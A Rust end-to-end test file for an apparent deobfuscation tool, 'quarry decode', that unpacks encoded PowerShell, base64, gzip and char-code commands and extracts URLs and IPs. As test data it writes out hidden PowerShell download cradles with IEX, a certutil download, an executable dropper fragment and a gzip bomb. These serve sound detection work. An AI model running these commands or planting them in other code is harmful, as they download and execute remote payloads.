//! End-to-end tests of `quarry decode` on real-shaped obfuscated commands.

use std::process::{Command, Output};

use serde_json::Value;

fn quarry(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_quarry"))
        .args(args)
        .output()
        .expect("failed to run quarry")
}

fn decode_json(args: &[&str]) -> Value {
    let mut all = vec!["decode", "--format", "json"];
    all.extend_from_slice(args);
    let output = quarry(&all);
    assert!(
        output.status.code() == Some(0),
        "quarry decode failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    serde_json::from_slice(&output.stdout).expect("decode output is JSON")
}

/// Standard base64 with padding, written out so the test does not share the decoder's crate.
fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = u32::from(b[0]) << 16 | u32::from(b[1]) << 8 | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn utf16le(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn indicator_values(json: &Value) -> Vec<String> {
    json["indicators"]
        .as_array()
        .unwrap()
        .iter()
        .map(|indicator| {
            format!(
                "{} {}",
                indicator["type"].as_str().unwrap(),
                indicator["value"].as_str().unwrap()
            )
        })
        .collect()
}

fn limit_kinds(json: &Value) -> Vec<String> {
    json["limits"]
        .as_array()
        .unwrap()
        .iter()
        .map(|limit| limit["kind"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn powershell_enc_download_cradle() {
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/a/stage.ps1')";
    let encoded = base64(&utf16le(script));
    let line = format!("powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc {encoded}");
    let json = decode_json(&[&line]);

    let child = &json["tree"]["children"][0];
    assert_eq!(child["encoding"], "powershell-encoded-command");
    assert_eq!(child["preview"], script);
    assert_eq!(child["file_type"], "utf-16le-text");
    assert_eq!(child["size"], script.len() * 2);
    let start = child["start"].as_u64().unwrap() as usize;
    let end = child["end"].as_u64().unwrap() as usize;
    assert_eq!(&line[start..end], encoded);
    assert_eq!(child["sha256"].as_str().unwrap().len(), 64);

    let indicators = indicator_values(&json);
    assert!(
        indicators.contains(&"url http://203.0.113.45/a/stage.ps1".to_owned()),
        "{indicators:?}"
    );
    assert!(
        indicators.contains(&"ipv4 203.0.113.45".to_owned()),
        "{indicators:?}"
    );
}

#[test]
fn powershell_flag_prefixes() {
    let encoded = base64(&utf16le("Start-Process calc.exe"));
    for flag in ["-e", "-ec", "-EncodedCommand", "/enc", "-ENCOD"] {
        let line = format!("powershell {flag} {encoded}");
        let json = decode_json(&[&line]);
        assert_eq!(
            json["tree"]["children"][0]["encoding"], "powershell-encoded-command",
            "{flag}"
        );
        assert_eq!(
            json["tree"]["children"][0]["preview"], "Start-Process calc.exe",
            "{flag}"
        );
    }
}

#[test]
fn gzip_base64_nested_payload() {
    // gzip (mtime 0) of a script that downloads and runs a second stage, then base64.
    let payload = "H4sIAAAAAAAC/wXBsQ6CMBQF0F9pCAkwtA2OGidlYMGBQdcCN1gtrw3vIXy+5+R8LdrmpcoOu34MH4yiOoh5YrgFD5LK3ONOIbqpl9XTXGZvkXS2dnHBjz5urLc0OQEbHG5JAYYglsXNOJnEdVYVF9XSL36hmyOtYPaRVM5/qZHcfnsAAAA=";
    let line = format!(
        "powershell -nop -c \"IEX(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('{payload}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\""
    );
    let json = decode_json(&[&line]);

    let base64_layer = &json["tree"]["children"][0];
    assert_eq!(base64_layer["encoding"], "base64");
    assert_eq!(base64_layer["file_type"], "gzip");
    let gzip_layer = &base64_layer["children"][0];
    assert_eq!(gzip_layer["encoding"], "gzip");
    assert_eq!(gzip_layer["file_type"], "text");
    assert!(
        gzip_layer["preview"]
            .as_str()
            .unwrap()
            .starts_with("$s='IEX (New-Object Net.WebClient)"),
        "{gzip_layer}"
    );
    assert_eq!(json["max_depth_reached"], 2);
    let indicators = indicator_values(&json);
    assert!(
        indicators.contains(&"url http://malicious-updates.example.net/stage2.ps1".to_owned()),
        "{indicators:?}"
    );
}

#[test]
fn char_code_array() {
    let url = "iwr http://192.0.2.10/x.exe -OutFile $env:TEMP\\x.exe";
    let codes: Vec<String> = url.chars().map(|c| (c as u32).to_string()).collect();
    let line = format!(
        "powershell -c \"iex (-join (({})|%{{[char]$_}}))\"",
        codes.join(",")
    );
    let json = decode_json(&[&line]);

    let child = &json["tree"]["children"][0];
    assert_eq!(child["encoding"], "char-codes");
    assert_eq!(child["preview"], url);
    assert!(indicator_values(&json).contains(&"ipv4 192.0.2.10".to_owned()));
}

#[test]
fn char_plus_form() {
    let json = decode_json(&["[char]73+[char]69+[char]88"]);
    assert_eq!(json["tree"]["children"][0]["preview"], "IEX");
}

#[test]
fn truncated_base64_decodes_prefix() {
    let text = "cmd /c certutil -urlcache -split -f http://198.51.100.9/p.exe p.exe";
    let mut encoded = base64(text.as_bytes());
    // Cut the string so that its length leaves one spare character, as a copy-paste cut does.
    while encoded.trim_end_matches('=').len() % 4 != 1 {
        encoded.pop();
    }
    let json = decode_json(&[&encoded]);

    let child = &json["tree"]["children"][0];
    assert_eq!(child["encoding"], "base64");
    let preview = child["preview"].as_str().unwrap();
    assert!(text.starts_with(preview), "{preview}");
    assert!(preview.len() >= text.len() - 3, "{preview}");
    assert_eq!(limit_kinds(&json), ["malformed"]);
}

#[test]
fn nest_of_25_stops_at_20() {
    let mut text = "echo reached the bottom".to_owned();
    for _ in 0..25 {
        text = base64(text.as_bytes());
    }
    let json = decode_json(&[&text]);

    assert_eq!(json["layers"], 20);
    assert_eq!(json["max_depth_reached"], 20);
    assert_eq!(limit_kinds(&json), ["max-depth"]);
    let mut node = &json["tree"];
    for _ in 0..20 {
        node = &node["children"][0];
        assert_eq!(node["encoding"], "base64");
    }
    assert!(node["children"].as_array().unwrap().is_empty());
}

#[test]
fn nest_within_limit_reaches_bottom() {
    let mut text = "echo reached the bottom".to_owned();
    for _ in 0..5 {
        text = base64(text.as_bytes());
    }
    let json = decode_json(&[&text]);
    assert_eq!(json["layers"], 5);
    assert!(json["limits"].as_array().unwrap().is_empty());
}

#[test]
fn gzip_bomb_stops_at_size_limit() {
    // base64 of gzip of gzip of 64 MiB of zero bytes (269 bytes compressed, 65,250 in the middle).
    let bomb = "H4sIAAAAAAAC/+3cr05CcRTA8QteN4abQjAR5BGMFOafQCZAZj6A0SybI1l8CbObm5uVxhuozc6f4JyJceXex/idzyedfOLZ2ffssZGV6sVqXqvth+nT7mXTaGYAAABA4qZfDwflMSDrFh+D4RgAAABI3c3JcV4dBbaTzpV1AAAAQPJm/V6r+hD4ub/NrQMAAACSd/r3fVndAhbFW3tkHwAAAJC8T8EAAAAACEUwAAAAAGIRDAAAAIBYBAMAAAAgGMEAAAAAiEUwAAAAAGIRDAAAAIBYBAMAAAAgGMEAAAAAiEUwAAAAAGJ57ve65WNA67e4u7g+zAAAAIjk/Wh9vnzdD/k/dTcIweL+AAA=";
    let json = decode_json(&[bomb]);

    let limit = 10 * 1024 * 1024;
    assert_eq!(json["total_decoded_bytes"], limit);
    assert_eq!(limit_kinds(&json), ["max-total-bytes"]);
    let zeros = &json["tree"]["children"][0]["children"][0]["children"][0];
    assert_eq!(zeros["encoding"], "gzip");
    assert_eq!(zeros["truncated"], true);
    assert_eq!(zeros["file_type"], "data");
    assert!(zeros["children"].as_array().unwrap().is_empty());

    let small = decode_json(&["--max-bytes", "100000", bomb]);
    assert_eq!(small["total_decoded_bytes"], 100_000);
    assert_eq!(limit_kinds(&small), ["max-total-bytes"]);
}

#[test]
fn plain_text_exits_one() {
    let output = quarry(&["decode", "Get-Process | Where-Object CPU -gt 100"]);
    assert_eq!(output.status.code(), Some(1));
    let stdout = String::from_utf8(output.stdout).unwrap();
    assert!(stdout.contains("0 decoded layer(s)"), "{stdout}");
}

#[test]
fn human_output_and_file_input() {
    let dir = std::env::temp_dir().join(format!("quarry-decode-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("cmd.txt");
    let encoded = base64(&utf16le("Invoke-WebRequest http://198.51.100.77/x"));
    std::fs::write(&path, format!("powershell -enc {encoded}\n")).unwrap();

    let output = quarry(&["decode", "-f", path.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(0));
    let stdout = String::from_utf8(output.stdout).unwrap();
    assert!(
        stdout.contains("[1] powershell-encoded-command"),
        "{stdout}"
    );
    assert!(
        stdout.contains("\"Invoke-WebRequest http://198.51.100.77/x\""),
        "{stdout}"
    );
    assert!(stdout.contains("ipv4"), "{stdout}");
    assert!(stdout.contains("198.51.100.77  (layer 1)"), "{stdout}");
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn missing_input_is_an_error() {
    let output = quarry(&["decode"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("missing input"));
}

#[test]
fn echoed_pe_header_is_pe() {
    // A dropper that writes a base64 executable line by line, starting with the DOS header.
    let json =
        decode_json(&["cmd /c \"echo TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA >> delme.b64\""]);

    let child = &json["tree"]["children"][0];
    assert_eq!(child["encoding"], "base64");
    assert_eq!(child["file_type"], "pe");
    assert_eq!(child["size"], 32);
    assert!(child.get("preview").is_none());
    assert!(json["indicators"].as_array().unwrap().is_empty());
}
